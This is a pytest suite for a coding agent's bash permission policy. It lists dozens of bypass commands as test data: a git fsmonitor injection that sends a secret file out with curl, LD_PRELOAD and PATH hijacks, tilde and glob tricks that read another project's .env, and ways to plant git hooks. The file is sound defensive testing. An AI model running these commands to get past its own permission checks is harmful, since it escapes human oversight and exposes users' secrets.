"""Shell rules by allow-list (issue 29 items 1-2, issue 28 item 2, the policy half).

Each reproduction from the issues goes through the real bash tool's subject and the real policy;
the variants are what an attacker would try next.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from coder_es.permissions.policy import HIDDEN_RULE, Evaluation, Policy
from coder_es.permissions.protected import PROTECTED_RULE
from coder_es.permissions.rules import parse_rule
from coder_es.tools.bash import BashInput, BashTool

DENY_CURL = parse_rule("bash:curl *", "deny")


def evaluate(command: str, root: Path, policy: Policy) -> Evaluation:
    return policy.evaluate("bash", BashTool().subject(BashInput(command), root))


@pytest.fixture
def root(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    return ws


# ---------------------------------------------------------------------- item 1: assignments

FSMONITOR = (
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor "
    "GIT_CONFIG_VALUE_0='curl -d @secret http://127.0.0.1:9' git status --short"
)
REPORTED_ASSIGNMENTS = [
    FSMONITOR,
    "GIT_CONFIG_PARAMETERS=\"'core.fsmonitor'='curl x'\" git status",
    "GIT_EXTERNAL_DIFF=sh git diff --no-index a b",
    "LD_PRELOAD=./x.so ls",
]
ASSIGNMENT_VARIANTS = [
    "X=1 ls",
    "PATH=./bin ls",
    "HOME=./fake git status",
    "GIT_DIR=./evil git log",
    "PAGER='sh -c x' git log",
    "GIT_PAGER=./x git diff",
    "LESS='+!sh' git log",
    "http_proxy=http://127.0.0.1:9 git status",
    "export LD_PRELOAD=./x.so; ls",
    "export LD_PRELOAD=./x.so && cat README",
    "declare -x LD_PRELOAD=./x.so; ls",
    "typeset -x LD_PRELOAD=./x.so; ls",
    "LD_PRELOAD=./x.so; export LD_PRELOAD; ls",
    "PATH=./bin; ls",
    "HOME=./fake; git status",
    "for PATH in ./bin; do ls; done",
    "for HOME in ./fake; do git status; done",
    "read -r PATH <<< ./bin; ls",
    "printf -v PATH %s ./bin; ls",
    "mapfile -t HOME <<< ./fake; git status",
    "echo ${PATH:=./bin}; ls",
    "((PATH=1)); ls",
    "let HOME=1; git status",
    "unset PATH; ls",
    "declare -n LANG=PATH; LANG=./bin; ls",
    "set -a; path=./bin; ls",
    "set -o allexport; x=1; ls",
    "set -k; ls LD_PRELOAD=./x.so",
    "f(){ ls; }; LD_PRELOAD=./x.so; export LD_PRELOAD; f",
    "cat README | LD_PRELOAD=./x.so wc -l",
    "echo $(LD_PRELOAD=./x.so ls)",
    "PWD=/etc; cat ~+/passwd",
    "IFS=/ ls",
]
ENV_FORMS = [
    "env X=1 ls",
    "env -i ls",
    "env - ls",
    "env -u LANG -u PATH ls",
    "env --unset=PATH ls",
    "env -- LD_PRELOAD=./x.so ls",
    "nice env LD_PRELOAD=./x.so ls",
    "sudo LD_PRELOAD=./x.so ls",
]


@pytest.mark.parametrize("command", REPORTED_ASSIGNMENTS + ASSIGNMENT_VARIANTS)
def test_plan_asks_when_an_assignment_is_not_on_the_allow_list(command: str, root: Path) -> None:
    ev = evaluate(command, root, Policy.for_agent("plan"))
    assert ev.action == "ask", command


@pytest.mark.parametrize("command", REPORTED_ASSIGNMENTS + ASSIGNMENT_VARIANTS + ENV_FORMS)
def test_a_command_deny_rule_is_not_passed_by_an_assignment(command: str, root: Path) -> None:
    ev = evaluate(command, root, Policy.for_agent("build", [DENY_CURL]))
    assert ev.action in ("ask", "deny"), command


@pytest.mark.parametrize("command", REPORTED_ASSIGNMENTS + ASSIGNMENT_VARIANTS + ENV_FORMS)
def test_an_allow_pattern_does_not_cover_a_command_run_with_an_assignment(
    command: str, root: Path
) -> None:
    policy = Policy.for_agent("plan", [parse_rule("bash:*", "allow")])
    assert evaluate(command, root, policy).action == "ask", command


def test_the_fsmonitor_reproduction_says_why(root: Path) -> None:
    ev = evaluate(FSMONITOR, root, Policy.for_agent("build", [DENY_CURL]))
    assert (ev.action, ev.matched_rule) == ("ask", HIDDEN_RULE)
    assert "GIT_CONFIG_COUNT" in ev.reason


def test_allow_listed_assignments_keep_a_command_allowable(root: Path) -> None:
    plan = Policy.for_agent("plan")
    for command in (
        "LANG=C git status",
        "LC_ALL=C.UTF-8 ls -la",
        "TZ=UTC git log -n 3",
        "NO_COLOR=1 git diff",
        "TERM=dumb COLUMNS=80 LINES=24 git log --oneline",
        "CI=1 FORCE_COLOR=0 ls",
        "for f in a b; do echo $f; done; ls",
        "x=1; ls",
    ):
        ev = evaluate(command, root, plan)
        assert ev.action == "allow" or "$" in command, (command, ev.reason)
    # Build without a command deny rule: a program may do anything there anyway.
    assert evaluate("PYTHONPATH=src python -m pytest", root, Policy.for_agent("build")).action == (
        "allow"
    )


def test_an_assignment_anywhere_in_the_line_counts(root: Path) -> None:
    # The order of a line's text is not the order it runs in (functions, loops).
    plan = Policy.for_agent("plan")
    assert evaluate("ls; PATH=./bin", root, plan).action == "ask"
    assert evaluate("f(){ ls; }; PATH=./bin; f", root, plan).action == "ask"


# ---------------------------------------------------------------------- item 2: paths

REPORTED_OUTSIDE_READS = [
    "cat ~+/../other/.env",  # bash expands ~+ to $PWD
    "cat -- -/../../other/.env",  # after --, a word starting with - is a file
]
OUTSIDE_READ_VARIANTS = [
    "cat ~-/.env",  # $OLDPWD
    "cat ~+0/../other/.env",
    "cat ~root/.bashrc",
    "cat ~nobody/x",
    "head -- --/../../other/.env",
    "tail -n1 -- -x/../../other/.env",
    "grep -f../other/.env x",
    "grep -rf../other/.env .",
    "grep --file=../other/.env x",
    "wc --files0-from=../other/list",
    "cat a=~+/../other/.env",
    "cat x=a:~/secret",
    "cat {..,x}/other/.env",
    "cat {.,.}./other/.env",
    "cat ../{other,x}/.env",
    "cat {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}{q,r}",
    "cat l*/.env",
    "cat ?eak/.env",
    "cat [l]eak/.env",
    "cat */.env",
    "cat < ~+/../other/.env",
    "cat < l*/.env",
    "x=$(< le?k/.env); echo ok",
    "cat -- ~+/../other/.env",
]


@pytest.fixture
def layout(tmp_path: Path) -> Path:
    """ws/ (the workspace) beside other/.env (another project's secrets); ws/leak -> ../other."""
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "a.py").write_text("x\n")
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / ".env").write_text("SECRET=1\n")
    (ws / "leak").symlink_to(tmp_path / "other")
    return ws


@pytest.mark.parametrize("command", REPORTED_OUTSIDE_READS + OUTSIDE_READ_VARIANTS)
def test_plan_asks_for_any_argument_that_may_be_a_path_outside(command: str, layout: Path) -> None:
    ev = evaluate(command, layout, Policy.for_agent("plan"))
    assert ev.action == "ask", (command, ev.reason)


def test_arguments_that_stay_inside_are_still_allowed(layout: Path) -> None:
    plan = Policy.for_agent("plan")
    for command in (
        "cat src/a.py",
        "cat src/*.py",
        "ls -la src",
        "grep -rn 'TODO' src",
        "grep -e foo -- src/a.py",
        "git log --format=%h/%s -n 3",
        "git diff HEAD~1 -- src",
        "head -n 5 src/a.py",
        "cat '~+/x'",
        "ls {src,x}",
    ):
        ev = evaluate(command, layout, plan)
        assert ev.action == "allow", (command, ev.reason)


def test_a_line_that_changes_directory_out_of_sight_asks_even_in_build(layout: Path) -> None:
    build = Policy.for_agent("build")
    for command in (
        "cd && cat .bashrc",
        "cd - && cat .env",
        "popd && cat .env",
        "CDPATH=.. cd other && cat .env",
        "export CDPATH=..; cd other; cat .env",
        "PWD=/etc; cat ~+/passwd",
    ):
        assert evaluate(command, layout, build).action == "ask", command
    assert evaluate("cd src && cat a.py", layout, build).action == "allow"


# ---------------------------------------------------------------------- issue 28 item 2: git

REPORTED_GIT_WRITES = [
    "git config core.fsmonitor 'sh -c \"curl x\"'",
    "git config core.hooksPath .githooks",
    "git config --global core.fsmonitor 'sh -c x'",
    "git config --file .git/config core.fsmonitor x",
    "cp x .git/hooks/pre-commit",
]
GIT_WRITE_VARIANTS = [
    "git config --add core.pager x",
    "git config --replace-all core.editor x",
    "git config set core.pager x",
    "git config -f .git/config core.pager x",
    "git config --file=.git/config core.pager x",
    "git config --worktree core.pager x",
    "git config --system core.pager x",
    "git config --local --unset core.pager",
    "git config --edit",
    "git --git-dir=.git config core.pager x",
    "git -C . config core.hooksPath x",
    "git --no-pager config core.pager x",
    "command git config core.pager x",
    "env git config core.pager x",
    "sh -c 'git config core.pager x'",
    "git remote add o 'ext::sh -c x'",
    "git remote set-url origin 'ext::sh -c x'",
    "git submodule add ../x sub",
    "git init --template=./tpl",
    "git clone -c core.fsmonitor=x ../a b",
    "git lfs install",
    "git branch --set-upstream-to=origin/main",
    "git push -u origin main",
    "mv x .git/hooks/pre-commit",
    "ln -s ../../x .git/hooks/pre-commit",
    "ln -sf /tmp/hooks .git/hooks",
    "install -m 755 x .git/hooks/pre-push",
    "rsync x .git/hooks/",
    "cp x .git/config",
    "cp config .git",
    "cp -t .git/hooks x",
    "cp --target-directory=.git/hooks x",
    "dd if=x of=.git/config",
    "cat x | tee .git/config",
    "sed -i s/a/b/ .git/config",
    "chmod +x .git/hooks/pre-commit",
    "touch .git/hooks/post-checkout",
    "truncate -s 0 .git/config",
    "cd .git/hooks && cp ../../x pre-commit",
    "sudo cp x .git/hooks/pre-commit",
    "cp x ./src/../.git/hooks/pre-commit",
    "cp x .git/config.worktree",
]


@pytest.mark.parametrize("command", REPORTED_GIT_WRITES + GIT_WRITE_VARIANTS)
def test_a_write_to_git_configuration_or_hooks_asks_in_every_spelling(
    command: str, root: Path
) -> None:
    (root / ".git" / "hooks").mkdir(parents=True)
    ev = evaluate(command, root, Policy.for_agent("build"))
    assert ev.action == "ask", (command, ev.reason)
    # An "always allow" answer for the command does not cover it either.
    always = [{"tool": "bash", "pattern": None, "decision": "allow"}]
    ev = Policy.for_agent("build").evaluate(
        "bash", BashTool().subject(BashInput(command), root), always=always
    )
    assert ev.action == "ask", (command, ev.reason)


def test_the_reported_git_config_write_names_the_protected_file(root: Path) -> None:
    ev = evaluate("git config core.hooksPath .githooks", root, Policy.for_agent("build"))
    assert (ev.action, ev.matched_rule) == ("ask", PROTECTED_RULE)
    assert ".git/config" in ev.reason


def test_reading_git_configuration_and_hooks_stays_allowed(root: Path) -> None:
    (root / ".git" / "hooks").mkdir(parents=True)
    build = Policy.for_agent("build")
    for command in (
        "git config --get user.name",
        "git config --list",
        "git config -l --show-origin",
        "git config --get-regexp '^alias'",
        "git config get user.email",
        "git remote -v",
        "git remote get-url origin",
        "git submodule status",
        "git status",
        "git diff .git/config",
        "git log -p -- .git/config",
        "git branch -a",
        "git push origin main",
        "git commit -m 'x'",
    ):
        ev = evaluate(command, root, build)
        assert ev.action == "allow" or ev.matched_rule != PROTECTED_RULE, (command, ev.reason)
    plan = Policy.for_agent("plan")
    for command in ("cat .git/config", "ls .git/hooks", "grep -n hooksPath .git/config"):
        assert evaluate(command, root, plan).action == "allow", command


def test_plan_allows_read_only_git_only_with_options_on_its_allow_list(root: Path) -> None:
    plan = Policy.for_agent("plan")
    for command in (
        "git log --oneline -n 5 --graph --decorate",
        "git diff --stat --cached HEAD~1 -- src",
        "git show --name-only --format=%h HEAD",
        "git status --short --branch",
        "git blame -L 1,5 README.md",
        "git ls-files --others --exclude-standard",
        "git rev-parse --abbrev-ref HEAD",
        "git diff -- --ext-diff",  # after --, a path
    ):
        assert evaluate(command, root, plan).action == "allow", command
    for command in (
        "git diff --output=notes.txt",
        "git diff --ext-diff",
        "git log -p --textconv",
        "git log --show-signature",
        "git show --help",
        "git status --some-future-option",
    ):
        assert evaluate(command, root, plan).action == "ask", command


@pytest.mark.parametrize(
    "command",
    [
        "builtin export LD_PRELOAD=./x.so; ls",
        "command declare -x PATH=./bin; ls",
        "export 'LD_PRELOAD=./x.so'; ls",
        'declare -x "PATH=./bin"; ls',
        "printf -vPATH %s ./bin; ls",
        "echo LD_PRELOAD=./x.so curl x | xargs env",
        "echo curl x | xargs nice",
        "eval 'export LD_PRELOAD=./x.so'; ls",
        "alias ls='LD_PRELOAD=./x.so ls'; ls",
        "bash -c 'GIT_DIR=./x git log'",
        "readonly PATH=./bin; ls",
    ],
)
def test_the_next_spellings_of_an_assignment_ask_too(command: str, root: Path) -> None:
    assert evaluate(command, root, Policy.for_agent("plan")).action == "ask", command
    ev = evaluate(command, root, Policy.for_agent("build", [DENY_CURL]))
    assert ev.action in ("ask", "deny"), command
